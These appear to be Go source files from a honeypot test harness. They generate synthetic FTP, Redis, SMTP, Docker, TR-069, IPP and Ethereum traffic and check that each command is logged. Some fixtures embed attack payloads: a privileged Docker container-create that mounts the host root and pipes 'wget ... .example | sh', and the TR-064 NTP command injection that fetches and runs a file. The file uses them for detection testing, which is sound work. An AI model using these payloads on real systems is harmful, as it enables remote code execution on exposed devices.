			q.maybeChunk(r)
		}
		more["http.method"] = q.method
		more["http.user-agent"] = ua
		more["eos.method"] = path
		setPayload(more, q.body)
		out = append(out, pcmd{Data: q.bytes(), Want: []wantEv{{Field: "http.url", Value: q.target, More: more}}, Note: q.method + " " + q.target})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// ethereum

func genEthereum(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	methods := []string{"eth_getBalance", "net_version", "miner_setEtherbase", "eth_mining", "eth_coinbase", "eth_accounts",
		"eth_blockNumber", "web3_clientVersion", "eth_getBlockByNumber", "eth_sendTransaction", "personal_unlockAccount",
		"eth_getTransactionCount", "rpc_modules", "eth_gasPrice", "personal_listAccounts", "admin_nodeInfo"}
	for i := 0; i < n; i++ {
		u := fmt.Sprintf("%s%d", tag, i)
		more := map[string]string{}
		q := &webReq{method: "POST"}
		q.common(r, tag, 8545, more)
		q.add("Content-Type", "application/json")
		more["http.header.content-type"] = jsonList("application/json")
		ua := ""
		if r.Chance(0.5) {
			ua = r.Pick([]string{"Geth/v1.8.2", "python-requests/2.9.1", "Mozilla/5.0", "web3.js"})
			q.add("User-Agent", ua)
		}
		more["http.user-agent"] = ua

		method := r.Pick(methods)
		if r.Chance(0.15) {
			method = "eth_" + u // unknown method: logged all the same
		}
		var params string
		switch r.Intn(4) {
		case 0:
			params = `[]`
		case 1:
			params = `["0x` + r.word(40, 40) + `","latest"]`
		case 2:
			params = `[{"from":"0x` + r.word(40, 40) + `","to":"0x` + r.word(40, 40) + `","value":"0x` + r.word(1, 16) + `","data":"0x` + r.word(0, 600) + `"}]`
		default:
			params = `["0x` + r.word(40, 40) + `","` + r.word(0, 20) + `",` + strconv.Itoa(r.Intn(600)) + `]`
		}
		version := "2.0"
		if r.Chance(0.1) {
			version = "1.0"
		}
		// id: a string carrying the tag, or a number
		stringID := r.Chance(0.5)
		var idJSON, idCanon string
		if stringID {
			idJSON, idCanon = strconv.Quote(u), u
		} else {
			v := r.Intn(1000000)
			idJSON, idCanon = strconv.Itoa(v), strconv.Itoa(v) // float64 of a small integer marshals without exponent/fraction
		}
		members := []string{`"jsonrpc":` + strconv.Quote(version), `"method":` + strconv.Quote(method), `"params":` + params, `"id":` + idJSON}
		// member order is free in JSON
		for k := len(members) - 1; k > 0; k-- {
			j := r.Intn(k + 1)
			members[k], members[j] = members[j], members[k]
		}
		sep := r.Pick([]string{",", ", ", ",\n  "})
		q.body = "{" + strings.Join(members, sep) + "}"
		if r.Chance(0.2) {
			q.body += "\n"
		}
		q.maybeChunk(r)

		q.target = "/"
		if !stringID || r.Chance(0.4) {
			q.target = "/" + r.Pick([]string{"", "rpc/", "api/"}) + u
		}
		more["http.method"] = "POST"
		more["type"] = method
		more["ethereum.method"] = method
		more["ethereum.jsonrpc"] = version
		setPayload(more, q.body)
		var want wantEv
		if stringID {
			more["http.url"] = q.target
			want = wantEv{Field: "ethereum.id", Value: idCanon, More: more}
		} else {
			more["ethereum.id"] = idCanon
			want = wantEv{Field: "http.url", Value: q.target, More: more}
		}
		out = append(out, pcmd{Data: q.bytes(), Want: []wantEv{want}, Note: method + " id=" + idCanon + " " + q.target})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// docker

func genDocker(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	for i := 0; i < n; i++ {
		u := fmt.Sprintf("%s%d", tag, i)
		more := map[string]string{}
		q := &webReq{}
		q.common(r, tag, 2375, more)
		ver := r.Pick([]string{"/v1.24", "/v1.37", "/v1.40"})
		jsonBody := false
		switch r.Intn(12) {
		case 0:
			q.method, q.target = "GET", r.Pick([]string{"", ver})+"/version?t="+u
		case 1:
			q.method, q.target = "GET", ver+"/info?t="+u
		case 2:
			q.method, q.target = r.Pick([]string{"GET", "HEAD"}), "/_ping?t="+u
		case 3:
			q.method, q.target = "GET", ver+"/containers/json?all=1&t="+u
		case 4:
			q.method, q.target = "GET", ver+"/images/json?t="+u
		case 5:
			q.method, q.target = "POST", ver+"/containers/create?name="+u
			jsonBody = true
			q.body = `{"Image":"` + r.Pick([]string{"alpine", "ubuntu:18.04", "busybox"}) + `","Cmd":["/bin/sh","-c","` +
				"wget -O- http://" + r.word(3, 12) + ".example/" + r.word(1, 300) + " | sh" + `"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}`
		case 6:
			q.method, q.target = "POST", ver+"/containers/"+u+"/"+r.Pick([]string{"start", "kill", "wait"})
			if r.Chance(0.5) {
				q.hasBody = true // Content-Length: 0
			}
		case 7:
			q.method, q.target = "POST", ver+"/containers/"+u+"/attach?stderr=1&stdin=1&stdout=1&stream=1"
			q.add("Upgrade", "tcp")
			q.add("Connection", "Upgrade")
			more["http.header.upgrade"] = jsonList("tcp")
			more["http.header.connection"] = jsonList("Upgrade")
		case 8:
			q.method, q.target = "POST", ver+"/images/create?fromImage="+r.Pick([]string{"alpine", "busybox", "ubuntu"})+"&tag="+u
			if r.Chance(0.5) {
				q.hasBody = true
			}
		case 9:
			q.method, q.target = "DELETE", ver+"/containers/"+u+"?force=1"
		case 10:
			q.method, q.target = "POST", ver+"/containers/"+u+"/exec"
			jsonBody = true
			q.body = `{"AttachStdout":true,"AttachStderr":true,"Cmd":["sh","-c","` + r.word(0, 400) + `"]}`
		default:
			q.method, q.target = r.Pick([]string{"GET", "PUT", "OPTIONS", "PATCH"}), "/"+u+"/"+r.word(0, 8)
			if q.method == "PUT" || q.method == "PATCH" {
				q.body = r.word(0, 200)
				q.hasBody = true
			}
		}
		if jsonBody {
			q.add("Content-Type", "application/json")
			more["http.header.content-type"] = jsonList("application/json")
		}
		if r.Chance(0.3) {
			cv := r.word(1, 16)
			q.add("Cookie", "sid="+cv)
			more["http.cookie.sid"] = cv
			more["http.header.cookie"] = jsonList("sid=" + cv)
		}
		// the service records (up to) the first 1024 bytes of the body: keep bodies below that
		if len(q.body) > 1000 {
			q.body = q.body[:1000]
		}
		more["http.method"] = q.method
		setPayload(more, q.body)
		out = append(out, pcmd{Data: q.bytes(), Want: []wantEv{{Field: "http.url", Value: q.target, More: more}}, Note: q.method + " " + q.target})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// cwmp (TR-069 / TR-064 SOAP over HTTP)

func genCWMP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	for i := 0; i < n; i++ {
		u := fmt.Sprintf("%s%d", tag, i)
		more := map[string]string{}
		q := &webReq{}
		q.common(r, tag, 7547, more)
		switch r.Intn(4) {
		case 0:
			q.target = "/UD/act?1&t=" + u
		case 1:
			q.target = "/" + u
		case 2:
			q.target = "/cwmp/" + u + "/" + r.word(0, 6)
		default:
			q.target = "/?t=" + u
		}
		if r.Chance(0.08) {
			// a GET (or an empty POST) is answered but produces no event
			q.method = r.Pick([]string{"GET", "POST"})
			if q.method == "POST" {
				q.hasBody = true
			}
			out = append(out, pcmd{Data: q.bytes(), Note: q.method + " " + q.target + " (no event)"})
			continue
		}
		q.method = "POST"

		// the method element and its raw inner XML
		var prefix, nsAttr, local, inner string
		switch r.Intn(4) {
		case 0: // the TR-064 NTP command injection
			prefix, nsAttr, local = "u:", ` xmlns:u="urn:dslforum-org:service:Time:1"`, "SetNTPServers"
			inner = "<NewNTPServer1>`cd /tmp;wget http://" + r.word(3, 10) + ".example/" + r.word(1, 8) + ";chmod 777 " + u + ";./" + u + "`</NewNTPServer1>" +
				"<NewNTPServer2>" + r.word(0, 20) + "</NewNTPServer2><NewNTPServer3></NewNTPServer3>"
			q.add("SOAPAction", "urn:dslforum-org:service:Time:1#SetNTPServers")
			more["http.header.soapaction"] = jsonList("urn:dslforum-org:service:Time:1#SetNTPServers")
		case 1:
			prefix, nsAttr, local = "cwmp:", ` xmlns:cwmp="urn:dslforum-org:cwmp-1-0"`, r.Pick([]string{"GetParameterValues", "GetParameterNames", "GetRPCMethods"})
			var b strings.Builder
			b.WriteString("<ParameterNames>")
			for k, m := 0, r.Range(1, 8); k < m; k++ {
				b.WriteString("<string>InternetGatewayDevice." + r.word(1, 30) + "</string>")
			}
			b.WriteString("</ParameterNames>")
			inner = b.String()
		case 2:
			prefix, nsAttr, local = "", "", r.Pick([]string{"Reboot", "FactoryReset", "Download"})
			inner = "<CommandKey>" + u + "</CommandKey>\r\n  <URL>http://" + r.word(3, 10) + ".example/fw.bin</URL><Comment> a &amp; b &lt;" + r.word(0, 10) + "&gt; </Comment>"
		default:
			prefix, nsAttr, local = "cwmp:", ` xmlns:cwmp="urn:dslforum-org:cwmp-1-0"`, "Inform"
			inner = "<DeviceId><Manufacturer>" + r.word(1, 10) + "</Manufacturer><OUI>" + r.word(6, 6) + "</OUI><SerialNumber>" + u + "</SerialNumber></DeviceId>" +
				"<Event><EventStruct><EventCode>0 BOOTSTRAP</EventCode><CommandKey/></EventStruct></Event><MaxEnvelopes>1</MaxEnvelopes>" +
				"<Padding>" + r.word(0, 1500) + "</Padding>"
		}
		env := r.Pick([]string{"SOAP-ENV", "soap", "s"})
		var b strings.Builder
		if r.Chance(0.6) {
			b.WriteString(`<?xml version="1.0"?>` + r.Pick([]string{"", "\n", "\r\n"}))
		}
		fmt.Fprintf(&b, `<%s:Envelope xmlns:%s="http://schemas.xmlsoap.org/soap/envelope/" %s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">`, env, env, env)
		if r.Chance(0.4) {
			fmt.Fprintf(&b, `<%s:Header><cwmp:ID xmlns:cwmp="urn:dslforum-org:cwmp-1-0" %s:mustUnderstand="1">%d</cwmp:ID></%s:Header>`, env, env, r.Intn(100000), env)
		}
		ws := r.Pick([]string{"", " ", "\n", "\r\n  "})
		fmt.Fprintf(&b, `%s<%s:Body>%s<%s%s%s>%s</%s%s>%s</%s:Body>%s</%s:Envelope>`, ws, env, ws, prefix, local, nsAttr, inner, prefix, local, ws, env, ws, env)
		if r.Chance(0.3) {
			b.WriteString("\r\n")
		}
		q.body = b.String()
		ct := r.Pick([]string{"text/xml", "text/xml; charset=utf-8", "application/soap+xml"})
		q.add("Content-Type", ct)
		more["http.header.content-type"] = jsonList(ct)
		q.maybeChunk(r)

		more["http.method"] = "POST"
		more["http.body"] = q.body
		more["cwmp.method"] = local
		more["cwmp.argumentsXML"] = inner
		out = append(out, pcmd{Data: q.bytes(), Want: []wantEv{{Field: "http.url", Value: q.target, More: more}}, Note: "POST " + q.target + " " + local})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// ipp

const (
	ippTagOperation = 0x01
	ippTagJob       = 0x02
	ippTagEnd       = 0x03
	ippInteger      = 0x21
	ippEnum         = 0x23
	ippName         = 0x42
	ippKeyword      = 0x44
	ippURI          = 0x45
	ippCharset      = 0x47
	ippLanguage     = 0x48
	ippMime         = 0x49
)

type ippBuf struct{ b []byte }

func (p *ippBuf) u8(v byte)    { p.b = append(p.b, v) }
func (p *ippBuf) u16(v uint16) { p.b = binary.BigEndian.AppendUint16(p.b, v) }
func (p *ippBuf) u32(v uint32) { p.b = binary.BigEndian.AppendUint32(p.b, v) }
func (p *ippBuf) str(s string) { p.u16(uint16(len(s))); p.b = append(p.b, s...) }

// attr writes one attribute; further values of a 1setOf follow with an empty name.
func (p *ippBuf) attr(tag byte, name string, vals ...string) {
	for i, v := range vals {
		p.u8(tag)
		if i == 0 {
			p.str(name)
		} else {
			p.str("")
		}
		p.str(v)
	}
}
func (p *ippBuf) intAttr(tag byte, name string, v uint32) {
	p.u8(tag)
	p.str(name)
	p.u16(4)
	p.u32(v)
}

func genIPP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	for i := 0; i < n; i++ {
		u := fmt.Sprintf("%s%d", tag, i)
		q := &webReq{method: "POST", proto: "HTTP/1.1"}
		switch r.Intn(3) {
		case 0:
			q.target = "/printers/" + u
		case 1:
			q.target = "/ipp/print/" + u
		default:
			q.target = "/ipp/" + u + "/" + r.word(0, 6)
		}
		q.host = fmt.Sprintf("%s:631", sensorIP)
		if r.Chance(0.5) {
			q.add("User-Agent", r.Pick([]string{"CUPS/2.2.7 (Linux 4.15.0; x86_64) IPP/2.0", "CUPS/1.7.5", "ipptool/" + r.word(1, 4)}))
		}
		q.add("Content-Type", "application/ipp") // the service insists on exactly this value

		uri := fmt.Sprintf("ipp://%s:631%s", sensorIP, q.target)
		user := u + "user"
		job := "job-" + u + "-" + r.word(0, 12)

		var p ippBuf
		if r.Chance(0.5) {
			p.u8(2)
			p.u8(0)
		} else {
			p.u8(1)
			p.u8(1)
		}
		op := []uint16{0x0002, 0x0002, 0x0002, 0x0004, 0x0005, 0x0009, 0x000b, 0x000b, 0x400b}[r.Intn(9)]
		p.u16(op)
		p.u32(uint32(r.Range(1, 1<<30)))
		p.u8(ippTagOperation)
		p.attr(ippCharset, "attributes-charset", "utf-8")
		p.attr(ippLanguage, "attributes-natural-language", r.Pick([]string{"en", "en-us", "nl-nl"}))
		p.attr(ippURI, "printer-uri", uri)
		p.attr(ippName, "requesting-user-name", user)
		data := ""
		more := map[string]string{"ipp.uri": "", "ipp.user": "", "ipp.job-name": ""}
		switch op {
		case 0x0002, 0x0004, 0x0005: // Print-Job, Validate-Job, Create-Job
			p.attr(ippName, "job-name", job)
			if r.Chance(0.7) {
				p.attr(ippMime, "document-format", r.Pick([]string{"application/octet-stream", "application/pdf", "application/postscript", "text/plain"}))
			}
			if r.Chance(0.5) {
				p.u8(ippTagJob)
				p.intAttr(ippInteger, "copies", uint32(r.Range(1, 20)))
				if r.Chance(0.5) {
					p.attr(ippKeyword, "sides", r.Pick([]string{"one-sided", "two-sided-long-edge"}))
				}
				if r.Chance(0.3) {
					p.intAttr(ippEnum, "print-quality", uint32(r.Range(3, 5)))
				}
			}
		case 0x0009: // Get-Job-Attributes
			if r.Chance(0.5) {
				p.attr(ippKeyword, "requested-attributes", "job-state", "job-state-reasons")
			}
		case 0x000b, 0x400b: // Get-Printer-Attributes, CUPS-Get-Devices
			if r.Chance(0.6) {
				p.attr(ippKeyword, "requested-attributes", "printer-state", "printer-make-and-model", "operations-supported", "document-format-supported")
			}
		}
		p.u8(ippTagEnd)
		if op == 0x0002 {
			// Print-Job: printable document data follows the end-of-attributes tag
			var d strings.Builder
			d.WriteString("%!PS-Adobe-3.0\n%%Title: " + job + "\n")
			for k, m := 0, r.Intn(20); k < m; k++ {
				d.WriteString("(" + r.word(0, 70) + ") show\n")
			}
			d.WriteString("showpage\n")
			data = d.String()
			// the four request attributes are copied into the event for Print-Job only
			more["ipp.uri"] = uri
			more["ipp.user"] = user
			more["ipp.job-name"] = job
		}
		more["ipp.data"] = data
		q.body = string(p.b) + data
		q.hasBody = true
		q.maybeChunk(r)
		out = append(out, pcmd{Data: q.bytes(), Want: []wantEv{{Field: "http.url", Value: q.target, More: more}},
			Note: fmt.Sprintf("ipp op=0x%04x %s", op, q.target)})
	}
	return out
}
