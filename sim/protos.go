package htsim

import (
	"fmt"
	"os"
	"sort"
	"strings"
)

// wantEv: an event whose Field renders (canonValue) to Value.  Values are unique per scenario
// so that every match is attributable to exactly one command.
type wantEv struct {
	Field string `json:"f"`
	Value string `json:"v"`
	// More: further fields of the same event that must carry these values
	More map[string]string `json:"more,omitempty"`
}

// pcmd is one protocol command/request: the bytes and the events it must produce.
type pcmd struct {
	Data []byte
	Want []wantEv
	Note string
	// Closes: the server is expected to end the dialogue after this command
	Closes bool
}

// proto describes one service for the dialogue engines (C04, C01, C03, C09).
type proto struct {
	Key     string // table key when it differs from Name (e.g. "memcached-udp")
	Name    string // service type in the registry
	Port    int
	UDP     bool
	Cfg     string // extra service configuration (toml lines)
	OneShot bool   // one request per connection by design
	// Gen produces a dialogue of n commands with scenario-unique tags derived from tag.
	Gen func(r *Rng, tag string, n int) []pcmd
}

func w1(f, v string) []wantEv { return []wantEv{{Field: f, Value: v}} }

var alnum = "abcdefghijklmnopqrstuvwxyz0123456789"

func (r *Rng) word(lo, hi int) string {
	n := r.Range(lo, hi)
	b := make([]byte, n)
	for i := range b {
		b[i] = alnum[r.Intn(len(alnum))]
	}
	return string(b)
}

// ---------------------------------------------------------------------------------------------

func genFTP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	mk := func(line string) pcmd {
		return pcmd{Data: []byte(line + "\r\n"), Want: w1("ftp.command", line), Note: line}
	}
	verbs := []string{"SYST", "NOOP", "PWD", "TYPE", "FEAT", "MODE", "STRU", "ALLO", "OPTS", "XYZZ", "STAT", "SIZE", "MDTM", "HELP", "REST"}
	for i := 0; i < n; i++ {
		u := fmt.Sprintf("%s%d", tag, i)
		switch {
		case i == 0 && r.Chance(0.7):
			out = append(out, mk("USER anonymous"+""))
			out[len(out)-1].Want = nil // not unique: checked only metamorphically
			out = append(out, mk("PASS "+u+"@example.org"))
		default:
			v := r.Pick(verbs)
			out = append(out, mk(v+" "+u+r.word(0, 12)))
		}
	}
	return out
}

func respArray(args ...string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "*%d\r\n", len(args))
	for _, a := range args {
		fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(a), a)
	}
	return []byte(b.String())
}

func genRedis(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	verbs := []string{"GET", "SET", "INFO", "PING", "KEYS", "DEL", "CONFIG", "FLUSHALL", "SLAVEOF", "EVAL", "AUTH", "HGETALL"}
	for i := 0; i < n; i++ {
		// the command word itself carries the tag so that the event is attributable
		verb := r.Pick(verbs)
		cmd := fmt.Sprintf("%s%s%d", verb, tag, i)
		if r.Chance(0.3) {
			cmd = verb // real command, not unique
		}
		args := []string{cmd}
		for k := r.Intn(3); k > 0; k-- {
			args = append(args, r.word(0, 20))
		}
		p := pcmd{Data: respArray(args...), Note: strings.Join(args, " ")}
		if cmd != verb {
			p.Want = w1("redis.command", cmd)
		}
		out = append(out, p)
	}
	return out
}

func genMemcached(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	for i := 0; i < n; i++ {
		key := fmt.Sprintf("%s%d", tag, i)
		switch r.Intn(6) {
		case 0:
			line := "get " + key
			out = append(out, pcmd{Data: []byte(line + "\r\n"), Want: w1("memcached.command", line), Note: line})
		case 1:
			line := "delete " + key
			out = append(out, pcmd{Data: []byte(line + "\r\n"), Want: w1("memcached.command", line), Note: line})
		case 2:
			line := "stats " + key
			out = append(out, pcmd{Data: []byte(line + "\r\n"), Want: w1("memcached.command", line), Note: line})
		case 3:
			line := "flush_all " + key
			out = append(out, pcmd{Data: []byte(line + "\r\n"), Want: w1("memcached.command", line), Note: line})
		default:
			verb := r.Pick([]string{"set", "add", "replace", "append", "prepend"})
			val := r.word(1, 70)
			line := fmt.Sprintf("%s %s %d %d %d", verb, key, r.Intn(4), r.Intn(100), len(val))
			out = append(out, pcmd{
				Data: []byte(line + "\r\n" + val + "\r\n"),
				Want: []wantEv{
					{Field: "memcached.command", Value: line},
					{Field: "memcached.key", Value: key, More: map[string]string{"memcached.command": verb}},
				},
				Note: line,
			})
		}
	}
	return out
}

func genTelnet(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	user := tag + "user"
	pass := tag + "pass"
	out = append(out, pcmd{Data: []byte(user + "\r\n"), Note: "username"})
	out = append(out, pcmd{Data: []byte(pass + "\r\n"), Want: []wantEv{{Field: "telnet.password", Value: pass, More: map[string]string{"telnet.username": user}}}, Note: "password"})
	for i := 0; i < n; i++ {
		line := fmt.Sprintf("%s%d %s", tag, i, r.word(0, 10))
		if r.Chance(0.4) {
			// multi-byte characters: a segment boundary may fall inside one of them
			line += " " + r.Pick([]string{"p\u00e4ssw\u00f6rd", "\u20ac 5", "/tmp/\u00fcn\u00efcode.txt", "\u65e5\u672c\u8a9e", "caf\u00e9 \U0001f600 x", "\u00e9"})
		}
		line = strings.TrimRight(line, " ")
		out = append(out, pcmd{Data: []byte(line + "\r\n"), Want: w1("telnet.command", line), Note: line})
	}
	return out
}

func genHTTP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	for i := 0; i < n; i++ {
		path := fmt.Sprintf("/%s%d/%s", tag, i, r.word(0, 8))
		var b strings.Builder
		want := []wantEv{{Field: "http.url", Value: path, More: map[string]string{}}}
		if r.Chance(0.5) {
			m := r.Pick([]string{"GET", "HEAD", "DELETE", "OPTIONS"})
			fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s.example\r\n", m, path, tag)
			want[0].More["http.method"] = m
			for k := r.Intn(3); k > 0; k-- {
				fmt.Fprintf(&b, "X-%s: %s\r\n", r.word(1, 5), r.word(0, 10))
			}
			b.WriteString("\r\n")
		} else {
			m := r.Pick([]string{"POST", "PUT", "PATCH"})
			body := r.word(0, 200)
			fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s.example\r\nContent-Length: %d\r\n\r\n%s", m, path, tag, len(body), body)
			want[0].More["http.method"] = m
			want[0].More["payload"] = body
		}
		out = append(out, pcmd{Data: []byte(b.String()), Want: want, Note: path})
	}
	return out
}

func genSMTP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	line := func(l string) pcmd {
		return pcmd{Data: []byte(l + "\r\n"), Want: w1("smtp.line", l), Note: l}
	}
	out = append(out, line(r.Pick([]string{"HELO ", "EHLO "})+tag+".example"))
	for i := 0; i < n; i++ {
		u := fmt.Sprintf("%s%d", tag, i)
		switch r.Intn(5) {
		case 0:
			out = append(out, line("NOOP "+u))
		case 1:
			out = append(out, line("RSET "+u))
		case 2:
			out = append(out, line("HELP "+u))
		default:
			out = append(out, line("MAIL FROM:<"+u+"@a.example>"))
			out = append(out, line("RCPT TO:<"+u+"@b.example>"))
			body := "body-" + u + "-" + r.word(0, 60)
			subject := "subj-" + u
			if r.Chance(0.6) {
				out = append(out, line("DATA "+u))
				msg := "Subject: " + subject + "\r\n\r\n" + body + "\r\n.\r\n"
				out = append(out, pcmd{Data: []byte(msg), Want: []wantEv{{Field: "smtp.Subject", Value: subject}}, Note: "message " + u})
			} else {
				msg := "Subject: " + subject + "\r\n\r\n" + body + "\r\n"
				if r.Chance(0.4) && len(msg) > 8 {
					// chunked transfer: the mail arrives in two or three BDAT chunks (other sessions may get their turn
					// between them); sometimes the client gives up before the last chunk
					k := r.Range(1, len(msg)-2)
					chunks := []string{msg[:k], msg[k:]}
					if r.Chance(0.4) && len(chunks[1]) > 2 {
						j := r.Range(1, len(chunks[1])-1)
						chunks = []string{chunks[0], chunks[1][:j], chunks[1][j:]}
					}
					abandon := r.Chance(0.3) && i == n-1 // (only as the last thing of the session: a new transaction after an unfinished chunk sequence is a protocol error)
					for ci, c := range chunks {
						last := ci == len(chunks)-1
						if last && abandon {
							break
						}
						l := fmt.Sprintf("BDAT %d", len(c))
						var want []wantEv
						if last {
							l += " LAST"
							want = []wantEv{{Field: "smtp.Subject", Value: subject}}
						}
						out = append(out, pcmd{Data: []byte(l + "\r\n" + c), Want: want, Note: "bdat-chunk " + u})
					}
					continue
				}
				l := fmt.Sprintf("BDAT %d LAST", len(msg))
				out = append(out, pcmd{Data: []byte(l + "\r\n" + msg), Want: []wantEv{{Field: "smtp.Subject", Value: subject}}, Note: "bdat " + u})
			}
		}
	}
	if r.Chance(0.5) {
		out = append(out, pcmd{Data: []byte("QUIT\r\n"), Note: "QUIT", Closes: true})
	}
	return out
}

var protoTable = map[string]*proto{
	"ftp":       {Name: "ftp", Port: 21, Gen: genFTP, Cfg: "fs_base=\"@TMP@\""},
	"redis":     {Name: "redis", Port: 6379, Gen: genRedis},
	"memcached": {Name: "memcached", Port: 11211, Gen: genMemcached},
	"telnet":    {Name: "telnet", Port: 23, Gen: genTelnet},
	"http":      {Name: "http", Port: 80, Gen: genHTTP},
	"smtp":      {Name: "smtp", Port: 25, Gen: genSMTP},
}

var protoNames = []string{"ftp", "redis", "memcached", "telnet", "http", "smtp"}

// registerProto adds a protocol description (used by the protos_*.go files).
func registerProto(p *proto) {
	key := p.Name
	if p.Key != "" {
		key = p.Key
	}
	protoTable[key] = p
	for _, n := range protoNames {
		if n == key {
			return
		}
	}
	protoNames = append(protoNames, key)
	sort.Strings(protoNames)
}

// activeProtos: all registered protocols, or the VERIF_PROTOS subset (comma separated keys).
func activeProtos() []string {
	if v := os.Getenv("VERIF_PROTOS"); v != "" {
		var out []string
		for _, n := range strings.Split(v, ",") {
			if protoTable[n] != nil {
				out = append(out, n)
			}
		}
		if len(out) > 0 {
			return out
		}
	}
	return protoNames
}

// serviceConfig renders the toml for one service on one port.
func serviceConfig(p *proto, svcName string) string {
	net := "tcp"
	if p.UDP {
		net = "udp"
	}
	return fmt.Sprintf("\n[service.%s]\ntype=%s\n%s\n[[port]]\nport=%s\nservices=[%s]\n",
		svcName, tomlStr(p.Name), p.Cfg, tomlStr(fmt.Sprintf("%s/%d", net, p.Port)), tomlStr(svcName))
}
