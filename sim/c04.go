package htsim

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strings"
	"testing"
)

// C04 — every client command is captured exactly once, however the stream is segmented.
//
// Oracles: (1) metamorphic — the connection's ordered event list (all fields except ids/times)
// under the generated segmentation/pipelining equals the list under the baseline delivery (one
// command per segment, lock-step); (2) generator-as-oracle — every command's expected event is
// present exactly once, in sending order, in both runs.

func init() {
	engines["C04"] = &Engine{Gen: genC04, Run: runC04}
}

func expJSON(w []wantEv) json.RawMessage {
	if len(w) == 0 {
		return nil
	}
	b, _ := json.Marshal(w)
	return b
}

func opWants(o Op) []wantEv {
	if len(o.Exp) == 0 {
		return nil
	}
	var w []wantEv
	json.Unmarshal(o.Exp, &w)
	return w
}

func clientAddr(k int) string { return fmt.Sprintf("10.%d.0.%d:%d", 1+k, 10+k, 30000+k*7) }

const sensorIP = "192.0.2.1"

func genC04(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c04")
	names := activeProtos()
	pn := names[idx%len(names)]
	p := protoTable[pn]
	sc := &Scenario{Engine: "dialogue", Params: map[string]interface{}{"proto": pn}}
	sc.Config = baseConfig + serviceConfig(p, "svc0")
	n := r.Range(1, 6)
	if p.OneShot {
		n = 1
	}
	overLimit := false
	udpMaxReqV = 4
	if p.UDP && r.Chance(0.1) {
		// beyond the rate limiter's burst (known finding for tftp / memcached-udp: reports stop there)
		udpMaxReqV = 1 << 30
		n = r.Range(5, 9)
		overLimit = true
	}
	cmds := p.Gen(r, "t"+r.word(3, 3), n)
	a := Actor{Kind: "tcp", Src: clientAddr(0), Dst: fmt.Sprintf("%s:%d", sensorIP, p.Port), Svc: pn}
	if p.UDP {
		a.Kind = "udp"
	}
	// delivery style for this run
	style := r.Intn(5)
	var class string
	switch style {
	case 0:
		class = "lockstep-cut"
	case 1:
		class = "pipelined-all"
	case 2:
		class = "pipelined-some"
	case 3:
		class = "dribble"
	default:
		class = "mixed"
	}
	if p.UDP {
		class = "datagrams"
		if overLimit {
			class = "datagrams-over-limit"
		}
	}
	if (pn == "smtp" || pn == "ftp" || pn == "ldap") && r.Chance(0.25) {
		// the session is upgraded to TLS in band first (SMTP STARTTLS / FTP AUTH TLS, lock-step as the protocols
		// demand); the dialogue then runs inside TLS, one record per segment: the same commands must be captured
		if pn == "smtp" {
			a.Ops = append(a.Ops, SendOp([]byte("EHLO tlsprelude.invalid\r\n"), nil, "prelude"), SendOp([]byte("STARTTLS\r\n"), nil, "prelude"))
		} else if pn == "ldap" {
			// StartTLS extended request (1.3.6.1.4.1.1466.20037) with a message id the grammar never uses
			a.Ops = append(a.Ops, SendOp(bSeq(0x30, bInt(0x02, 16000), bSeq(0x77, bStr(0x80, "1.3.6.1.4.1.1466.20037"))).enc(false), nil, "prelude"))
		} else {
			a.Ops = append(a.Ops, SendOp([]byte("AUTH TLS\r\n"), nil, "prelude"))
		}
		a.Ops = append(a.Ops, Op{K: "starttls"})
		class += "+tls"
	}
	for i, c := range cmds {
		op := SendOp(c.Data, nil, c.Note)
		op.Exp = expJSON(c.Want)
		if !p.UDP {
			switch style {
			case 0:
				op.Cuts = r.Cuts(len(c.Data))
			case 1:
				op.Join = true
				if r.Chance(0.5) {
					op.Cuts = r.Cuts(len(c.Data))
				}
			case 2:
				op.Join = r.Chance(0.5)
				op.Cuts = r.Cuts(len(c.Data))
			case 3:
				op.Join = r.Chance(0.3)
				for k := 1; k < len(c.Data) && k < 400; k++ {
					op.Cuts = append(op.Cuts, k)
				}
			default:
				op.Join = r.Chance(0.4)
				if r.Chance(0.7) {
					op.Cuts = r.Cuts(len(c.Data))
				}
			}
			// idle gaps < 30 s between segments must not matter either
			if !op.Join && r.Chance(0.1) {
				a.Ops = append(a.Ops, op)
				a.Ops = append(a.Ops, Op{K: "sleep", Ms: int64(r.Range(1, 25000))})
				continue
			}
		}
		_ = i
		a.Ops = append(a.Ops, op)
	}
	if !p.UDP {
		cl := Op{K: "close"}
		if style == 0 && r.Chance(0.35) {
			// fault: the client sends its last command completely and is gone before the reply can be written
			// (lock-step delivery, so every earlier command has been answered); the command still counts
			cl.Note = "same-step"
			class += "+leaves-early"
			sc.Faults = append(sc.Faults, "client-leaves-before-last-reply")
		}
		a.Ops = append(a.Ops, cl)
	}
	sc.Class = pn + "/" + class
	sc.Actors = []Actor{a}
	sc.Schedule = r.Schedule(4)
	if p.UDP {
		// datagrams: one per step, or several released in the same step (batch bit)
		sc.Schedule = r.Schedule(len(a.Ops) + 2)
		if r.Chance(0.5) && pn != "tftp" { // tftp uploads are lock-step by protocol: DATA follows the ACK of its WRQ
			for i := range sc.Schedule {
				if r.Chance(0.5) {
					sc.Schedule[i] |= 1 << 16
				}
			}
		}
	}
	sc.DrainMs = 1000
	return sc
}

// baselineOf strips every segmentation decision: one command per segment, lock-step, no gaps.
func baselineOf(sc *Scenario) *Scenario {
	b := sc.Clone()
	for i := range b.Schedule {
		b.Schedule[i] &= 0xffff
	}
	for ai := range b.Actors {
		var ops []Op
